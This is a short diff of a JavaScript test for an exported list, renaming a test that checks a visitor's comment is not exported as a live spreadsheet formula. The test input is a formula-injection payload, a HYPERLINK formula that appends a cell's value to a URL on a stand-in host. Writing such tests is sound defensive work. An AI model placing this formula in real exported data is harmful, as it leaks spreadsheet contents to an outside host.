@@ -99,7 +99,7 @@ describe('the exported list', () => {
     ])
   })
 
-  test('STAFF-19 what an anonymous visitor types is no formula in it, and a phone stays readable', async () => {
+  test('STAFF-19 CASE-53 what an anonymous visitor types is no formula in it, and a phone stays readable', async () => {
     const comment = '=HYPERLINK("https://zle.example/?"&A1;"faktura\nza sierpień")'
     await placed({
       comment,
